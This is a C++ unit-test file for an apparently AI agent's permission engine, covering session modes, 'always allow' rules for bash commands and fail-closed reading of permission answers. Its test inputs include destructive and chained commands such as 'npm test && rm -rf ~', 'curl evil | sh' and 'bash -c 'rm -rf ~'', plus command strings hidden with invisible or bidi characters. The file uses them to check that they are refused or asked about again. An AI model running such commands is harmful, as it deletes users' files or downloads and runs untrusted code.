// Permission decisions: modes, "always" per tool and per bash command (exact, or a listed tool's
// prefix) as the option's name states it, the probe of issue 27 asked again, answers read fail-closed.
#include "engine/command_rule.hpp"
#include "engine/permissions.hpp"
#include "handlers/permission_request.hpp"

#include <boost/json/parse.hpp>
#include <boost/test/unit_test.hpp>

#include <string>
#include <utility>
#include <vector>

using namespace acp::engine;
using acp::handlers::permission_options;
using acp::handlers::read_permission_answer;

BOOST_AUTO_TEST_SUITE(permissions)

BOOST_AUTO_TEST_CASE(modes_decide_before_any_remembered_choice) {
  Permissions p;
  BOOST_TEST((p.check(SessionMode::ask, "read", ToolEffect::none) == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::ask, "edit", ToolEffect::changes_files) == PermissionNeed::ask));
  BOOST_TEST((p.check(SessionMode::ask, "mcp__fs__write", ToolEffect::external) == PermissionNeed::ask));
  BOOST_TEST((p.check(SessionMode::read_only, "bash", ToolEffect::runs_commands, "ls") == PermissionNeed::refused));
  BOOST_TEST((p.check(SessionMode::read_only, "grep", ToolEffect::none) == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::auto_approve, "bash", ToolEffect::runs_commands, "rm -rf build") == PermissionNeed::allowed));
  p.remember("edit", "", true);
  BOOST_TEST((p.check(SessionMode::read_only, "edit", ToolEffect::changes_files) == PermissionNeed::refused));
  BOOST_TEST((p.check(SessionMode::ask, "edit", ToolEffect::changes_files) == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::ask, "write", ToolEffect::changes_files) == PermissionNeed::ask));
  for (auto m : {SessionMode::ask, SessionMode::read_only, SessionMode::auto_approve})
    BOOST_TEST((parse_mode(mode_id(m)) == m));
  BOOST_TEST(!parse_mode("yolo"));
}

namespace {

// The rule an "always" for `command` creates: "prefix:WORDS", "exact:COMMAND", or "" (not offered).
std::string rule_of(std::string_view command, std::string_view workdir = {}) {
  auto rule = Permissions::rule_for("bash", command, workdir);
  if (!rule) return "";
  return rule->command.empty() ? "prefix:" + rule->command_prefix : "exact:" + rule->command;
}

} // namespace

BOOST_AUTO_TEST_CASE(a_prefix_rule_only_for_listed_tools_and_subcommands_an_exact_rule_otherwise) {
  BOOST_TEST(rule_of("npm test -- --watch") == "prefix:npm test");
  BOOST_TEST(rule_of("  git   status ") == "prefix:git status");
  BOOST_TEST(rule_of("cargo build --release") == "prefix:cargo build");
  // Words are never dropped: a second word with `.` or `/`, an option, or a program not listed
  // gives a rule for the whole command.
  BOOST_TEST(rule_of("rm old.log") == "exact:rm old.log");
  BOOST_TEST(rule_of("rm old") == "exact:rm old");
  BOOST_TEST(rule_of("find . -name a.txt") == "exact:find . -name a.txt");
  BOOST_TEST(rule_of("bash build.sh") == "exact:bash build.sh");
  BOOST_TEST(rule_of("  ctest -R parser  ") == "exact:ctest -R parser");
  BOOST_TEST(rule_of("./build.sh src/x") == "exact:./build.sh src/x");
  BOOST_TEST(rule_of("ls") == "exact:ls");
  // Programs that run other programs or delete, and subcommands of listed tools that do.
  for (std::string_view cmd : {"sh script", "python3 tool", "node app", "env FOO", "xargs rm", "sudo apt", "timeout 5",
                               "nice make", "make test", "dd if", "mv a", "git clean -fdx", "git rebase main", "git st",
                               "git config alias", "git fetch origin", "npm exec thing", "npm run deploy", "npx thing", "cargo run",
                               "go generate", "git -c x status", "FOO=1 git status", "'git' status"})
    BOOST_TEST(rule_of(cmd).starts_with("exact:"), cmd);
  // Asked for every time: shell control, control and hidden characters, invalid UTF-8, long ones.
  for (std::string_view compound : {"npm test && rm -rf ~", "ls; rm x", "cat a | sh", "echo $(id)", "echo `id`", "ls > f",
                                    "a\nb", "x || y", "rm a\rb", "rm \x1b[8mx", "rm old.log\xe2\x80\xaegol", "rm \xff",
                                    "rm \xe2\x80\x8bx", "", "   "})
    BOOST_TEST(rule_of(compound).empty(), compound);
  BOOST_TEST(rule_of(std::string(kMaxRememberedCommand, 'x')) == "exact:" + std::string(kMaxRememberedCommand, 'x'));
  BOOST_TEST(rule_of(std::string(kMaxRememberedCommand + 1, 'x')).empty());
  // An exact rule is about the working directory; elsewhere the same words name other files.
  BOOST_TEST(rule_of("rm old.log", "sub").empty());
  BOOST_TEST(rule_of("rm old.log", ".") == "exact:rm old.log");
  BOOST_TEST(rule_of("git status", "sub") == "prefix:git status");
}

BOOST_AUTO_TEST_CASE(every_case_of_the_probe_asks_again) {
  const std::pair<std::string_view, std::vector<std::string_view>> probes[] = {
      {"rm old.log", {"rm -f important.txt", "rm old.log important.txt", "rm  old.log", "rm old.logx", "rm old", "rm"}},
      {"find . -name a.txt", {"find . -name 'victim*' -delete", "find . -name a.txt -delete", "find . -name a.txt -exec rm {} +",
                              "find ."}},
      {"bash build.sh", {"bash -c 'rm -rf ~'", "bash build.sh --evil", "bash"}},
      {"python3 tool.py", {"python3 -c 'import os'", "python3 tool.py x"}},
      {"ctest -R parser", {"ctest -R parser -C x", "ctest"}},
  };
  for (const auto& [allowed, others] : probes) {
    Permissions p;
    BOOST_TEST(p.remember("bash", allowed, true), allowed);
    auto need = [&](std::string_view cmd, std::string_view workdir = {}) {
      return p.check(SessionMode::ask, "bash", ToolEffect::runs_commands, cmd, workdir);
    };
    BOOST_TEST((need(allowed) == PermissionNeed::allowed), allowed);
    BOOST_TEST((need(std::string("  ") + std::string(allowed) + "\t") == PermissionNeed::allowed), allowed);
    BOOST_TEST((need(allowed, "other") == PermissionNeed::ask), allowed);
    for (std::string_view other : others) BOOST_TEST((need(other) == PermissionNeed::ask), allowed << " / " << other);
  }
}

BOOST_AUTO_TEST_CASE(a_prefix_rule_covers_its_words_with_any_arguments) {
  Permissions p;
  BOOST_TEST(p.remember("bash", "npm test -- --watch", true));
  BOOST_TEST(!p.remember("bash", "npm test && curl evil | sh", true));
  auto need = [&](std::string_view cmd) { return p.check(SessionMode::ask, "bash", ToolEffect::runs_commands, cmd); };
  BOOST_TEST((need("npm test") == PermissionNeed::allowed));
  BOOST_TEST((need("npm  test   --coverage") == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::ask, "bash", ToolEffect::runs_commands, "npm test", "packages/a") == PermissionNeed::allowed));
  BOOST_TEST((need("npm testing") == PermissionNeed::ask));
  BOOST_TEST((need("npm install") == PermissionNeed::ask));
  BOOST_TEST((need("npm test && rm -rf ~") == PermissionNeed::ask));
  BOOST_TEST((need("npm test\necho x") == PermissionNeed::ask));
  // The latest choice wins.
  p.remember("bash", "npm test", false);
  BOOST_TEST((need("npm test") == PermissionNeed::refused));
}

BOOST_AUTO_TEST_CASE(options_name_the_rule_they_create) {
  auto names = [](const boost::json::array& options) {
    std::vector<std::string> out;
    for (const auto& o : options) out.emplace_back(o.at("optionId").as_string().c_str() + std::string("=") + o.at("name").as_string().c_str());
    return out;
  };
  auto exact = Permissions::rule_for("bash", "rm old.log");
  BOOST_TEST(names(permission_options(&*exact)) ==
                 (std::vector<std::string>{"allow_once=Allow", "allow_always=Always allow `rm old.log`", "reject_once=Reject",
                                           "reject_always=Always reject `rm old.log`"}),
             boost::test_tools::per_element());
  auto prefix = Permissions::rule_for("bash", "git status -s");
  BOOST_TEST(names(permission_options(&*prefix))[1] == "allow_always=Always allow `git status \u2026`");
  auto edit = Permissions::rule_for("edit", "");
  BOOST_TEST(names(permission_options(&*edit))[3] == "reject_always=Always reject every `edit` call");
  BOOST_TEST(names(permission_options(nullptr)) == (std::vector<std::string>{"allow_once=Allow", "reject_once=Reject"}),
             boost::test_tools::per_element());
  for (const auto& o : permission_options(&*exact)) BOOST_TEST(o.at("kind") == o.at("optionId"));
}

BOOST_AUTO_TEST_CASE(answers_are_read_fail_closed) {
  auto read = [](std::string_view text) { return read_permission_answer(boost::json::parse(text)); };
  BOOST_TEST((read(R"({"outcome":{"outcome":"selected","optionId":"allow_once"}})") == PermissionAnswer::allow_once));
  BOOST_TEST((read(R"({"outcome":{"outcome":"selected","optionId":"allow_always"}})") == PermissionAnswer::allow_always));
  BOOST_TEST((read(R"({"outcome":{"outcome":"selected","optionId":"reject_always"}})") == PermissionAnswer::reject_always));
  BOOST_TEST((read(R"({"outcome":{"outcome":"cancelled"}})") == PermissionAnswer::cancelled));
  for (std::string_view bad : {R"({})", R"(null)", R"({"outcome":"selected"})", R"({"outcome":{"outcome":"selected","optionId":"whatever"}})",
                               R"({"outcome":{"outcome":"selected"}})"})
    BOOST_TEST((read(bad) == PermissionAnswer::reject_once), bad);
}

BOOST_AUTO_TEST_SUITE_END()
